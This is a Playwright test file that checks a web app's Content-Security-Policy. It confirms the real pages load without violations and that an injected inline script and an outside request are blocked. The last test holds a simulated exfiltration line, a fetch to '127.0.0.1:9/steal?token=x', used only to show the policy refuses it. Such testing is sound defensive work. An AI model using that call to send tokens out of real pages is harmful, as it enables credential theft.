import type { Page } from '@playwright/test';
import {
  loginThroughApi,
  registerThroughApi,
  saveSession,
  type TestAccount,
} from './support/accounts';
import { expect, test as base } from './support/fixtures';
import { operator } from './support/operator';
import { API_URL, WEB_URL } from './support/stack';

/**
 * The production build's Content-Security-Policy (src/config/contentSecurityPolicy.ts): the
 * real pages run under it without a single violation, and it really stops what it is for —
 * inline scripts and calls to hosts other than the configured API and market feed.
 */
const test = base.extend<object, { account: TestAccount }>({
  account: [
    // eslint-disable-next-line no-empty-pattern
    async ({}, use) => {
      const account = await registerThroughApi('Policy Tester', 'csp');
      await operator('verify-user', account.email);
      await use(account);
    },
    { scope: 'worker' },
  ],
});

// No market relay: the page's own connections (the build's feed URLs) meet the policy.
test.use({ marketRelay: false });

interface Violation {
  directive: string;
  blocked: string;
}

/** Records every CSP violation the page reports, from its first script on. */
async function recordViolations(page: Page): Promise<() => Promise<Violation[]>> {
  await page.addInitScript(() => {
    const seen: { directive: string; blocked: string }[] = [];
    (window as unknown as { cspViolations: typeof seen }).cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI }),
    );
  });
  return () =>
    page.evaluate(() => (window as unknown as { cspViolations: Violation[] }).cspViolations);
}

test('index.html declares the policy and carries no inline script', async () => {
  const html = await (await fetch(`${WEB_URL}/`)).text();
  const policy = /http-equiv="?Content-Security-Policy"? content="([^"]+)"/.exec(html)?.[1];
  expect(policy, 'a Content-Security-Policy meta tag').toBeTruthy();
  expect(policy).toMatch(/script-src 'self';/);
  expect(policy).toMatch(new RegExp(`connect-src 'self' ${API_URL}`));
  const scripts = html.match(/<script\b[^>]*>/g) ?? [];
  expect(scripts.length).toBeGreaterThan(0);
  for (const tag of scripts) expect(tag, `external, not inline: ${tag}`).toMatch(/\bsrc=/);
});

test('the home page and the dashboard run without a violation', async ({
  page,
  consoleErrors,
  account,
}) => {
  const violations = await recordViolations(page);

  await page.goto(`${WEB_URL}/`);
  await page.getByRole('rowheader', { name: /Bitcoin/ }).waitFor();
  expect(await violations(), 'home').toEqual([]);

  await saveSession(page, await loginThroughApi(account));
  const stream = page.waitForEvent('websocket');
  await page.goto(`${WEB_URL}/dashboard`);
  await page.getByRole('group', { name: 'Total Deposits' }).locator('p').waitFor();
  // The market widgets (below the user's own sections, loaded as they near the viewport) have
  // drawn from the feed and the ticker stream delivers.
  const chart = page.getByRole('region', { name: 'BTC/USD', exact: true });
  await chart.scrollIntoViewIfNeeded();
  await chart.locator('canvas').first().waitFor();
  await (await stream).waitForEvent('framereceived');
  expect(await violations(), 'dashboard').toEqual([]);
  expect(consoleErrors).toEqual([]);
});

test('an injected inline script does not run and a call to another host is refused', async ({
  page,
}) => {
  const violations = await recordViolations(page);
  await page.goto(`${WEB_URL}/`);
  await page.getByRole('heading', { level: 1 }).waitFor();

  const outcome = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.injectedScriptRan = true;';
    document.body.append(script);
    let elsewhere = 'answered';
    try {
      await fetch('http://127.0.0.1:9/steal?token=x');
    } catch {
      elsewhere = 'refused';
    }
    return {
      injectedScriptRan: (window as unknown as { injectedScriptRan?: boolean }).injectedScriptRan,
      elsewhere,
    };
  });
  expect(outcome.injectedScriptRan).toBeUndefined();
  expect(outcome.elsewhere).toBe('refused');
  // Each violation is reported once per policy that forbids it: the header's and index.html's.
  const directives = [...new Set((await violations()).map((violation) => violation.directive))];
  expect(directives.sort()).toEqual(['connect-src', 'script-src-elem']);
});
